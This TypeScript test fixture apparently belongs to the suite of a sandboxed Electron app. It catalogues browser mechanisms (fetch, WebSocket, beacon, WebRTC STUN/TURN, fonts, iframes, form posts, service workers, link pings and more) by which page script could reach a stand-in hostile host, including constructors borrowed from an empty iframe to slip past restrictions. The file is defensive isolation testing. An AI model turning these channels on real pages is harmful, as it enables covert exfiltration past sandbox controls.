// Every way we know by which a hostile script in a page could reach another machine. Each function runs inside the page and stands alone.

export interface Vector {
  readonly name: string
  /** `address` is `host:port` of a machine that must never hear of us. */
  readonly run: (address: string) => unknown
  /** False where a stock Electron window does not reach out either (no such interface, or it asks a person first). */
  readonly reachesFromStockWindow: boolean
}

export const hostileHost = '203.0.113.7'
const firstPort = 8_100

const reaching: readonly Pick<Vector, 'name' | 'run'>[] = [
  { name: 'fetch', run: (address) => fetch(`http://${address}/`, { mode: 'no-cors' }) },
  {
    name: 'XMLHttpRequest',
    run: (address) => {
      const request = new XMLHttpRequest()
      request.open('GET', `http://${address}/`)
      request.send()
    },
  },
  { name: 'WebSocket', run: (address) => new WebSocket(`ws://${address}/`) },
  { name: 'beacon', run: (address) => navigator.sendBeacon(`http://${address}/`, 'x') },
  { name: 'EventSource', run: (address) => new EventSource(`http://${address}/`) },
  { name: 'WebTransport', run: (address) => new WebTransport(`https://${address}/`) },
  {
    name: 'image',
    run: (address) => {
      new Image().src = `http://${address}/`
    },
  },
  {
    name: 'script',
    run: (address) => {
      const script = document.createElement('script')
      script.setAttribute('src', `http://${address}/x.js`)
      document.head.append(script)
    },
  },
  {
    name: 'style sheet',
    run: (address) =>
      document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `http://${address}/x.css` })),
  },
  {
    name: 'font',
    run: (address) => {
      const font = new FontFace('leak', `url(http://${address}/x.woff2)`)
      void font.load()
    },
  },
  {
    name: 'video',
    run: (address) => document.body.append(Object.assign(document.createElement('video'), { src: `http://${address}/`, preload: 'auto' })),
  },
  {
    name: 'object',
    run: (address) => document.body.append(Object.assign(document.createElement('object'), { data: `http://${address}/` })),
  },
  {
    name: 'iframe',
    run: (address) => document.body.append(Object.assign(document.createElement('iframe'), { src: `http://${address}/` })),
  },
  {
    name: 'prefetch',
    run: (address) => document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: `http://${address}/` })),
  },
  { name: 'worker', run: (address) => new Worker(URL.createObjectURL(new Blob([`fetch('http://${address}/', { mode: 'no-cors' })`]))) },
  { name: 'window.open', run: (address) => window.open(`http://${address}/`) },
  {
    name: 'form post in a new window',
    run: (address) => {
      const form = Object.assign(document.createElement('form'), { action: `http://${address}/`, method: 'post', target: '_blank' })
      document.body.append(form)
      form.submit()
    },
  },
  {
    name: 'WebRTC',
    run: async (address) => {
      const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${address}` }] })
      connection.createDataChannel('leak')
      await connection.setLocalDescription(await connection.createOffer())
    },
  },
  {
    name: 'WebRTC over TCP from an empty frame',
    run: async (address) => {
      const frame = document.createElement('iframe')
      document.body.append(frame)
      const Connection: unknown = frame.contentWindow === null ? undefined : Reflect.get(frame.contentWindow, 'RTCPeerConnection')
      if (typeof Connection !== 'function') return
      const connection: object = Reflect.construct(Connection, [
        { iceServers: [{ urls: [`turn:${address}?transport=tcp`, `stun:${address}`], username: 'x', credential: 'x' }] },
      ])
      Reflect.apply(Reflect.get(connection, 'createDataChannel'), connection, ['leak'])
      await Reflect.apply(Reflect.get(connection, 'setLocalDescription'), connection, [])
    },
  },
  {
    name: 'WebSocket from an empty frame',
    run: (address) => {
      const frame = document.createElement('iframe')
      document.body.append(frame)
      const Socket: unknown = frame.contentWindow === null ? undefined : Reflect.get(frame.contentWindow, 'WebSocket')
      if (typeof Socket === 'function') Reflect.construct(Socket, [`ws://${address}/`])
    },
  },
  {
    name: 'location',
    run: (address) => {
      location.href = `http://${address}/`
    },
  },
]

const quietEverywhere: readonly Pick<Vector, 'name' | 'run'>[] = [
  {
    name: 'ping of a link',
    run: (address) => {
      const link = Object.assign(document.createElement('a'), { href: '#', ping: `http://${address}/` })
      document.body.append(link)
      link.click()
    },
  },
  {
    name: 'speech recognition',
    run: () => {
      const Recognition: unknown = Reflect.get(window, 'webkitSpeechRecognition')
      if (typeof Recognition !== 'function') return
      const recognition: object = Reflect.construct(Recognition, [])
      Reflect.apply(Reflect.get(recognition, 'start'), recognition, [])
    },
  },
]

/** A stock window of Electron 33 answers these by ending the page's process, so they have to come last. */
const deadly: readonly Pick<Vector, 'name' | 'run'>[] = [
  {
    name: 'preconnect',
    run: (address) =>
      document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: `http://${address}/` })),
  },
  {
    name: 'speculation rules',
    run: (address) =>
      document.head.append(
        Object.assign(document.createElement('script'), {
          type: 'speculationrules',
          text: JSON.stringify({ prefetch: [{ source: 'list', urls: [`http://${address}/`] }] }),
        }),
      ),
  },
  { name: 'service worker', run: (address) => navigator.serviceWorker.register(`http://${address}/x.js`) },
]

/** The vectors in the order they are tried; those that would leave the page come last. */
export const hostileVectors: readonly Vector[] = [
  ...quietEverywhere.map((vector) => ({ ...vector, reachesFromStockWindow: false })),
  ...reaching.map((vector) => ({ ...vector, reachesFromStockWindow: true })),
  ...deadly.map((vector) => ({ ...vector, reachesFromStockWindow: false })),
]

/** The port that belongs to one vector, so that a trace tells which of them got out. */
export function portOf(vector: Vector): number {
  return firstPort + hostileVectors.indexOf(vector)
}
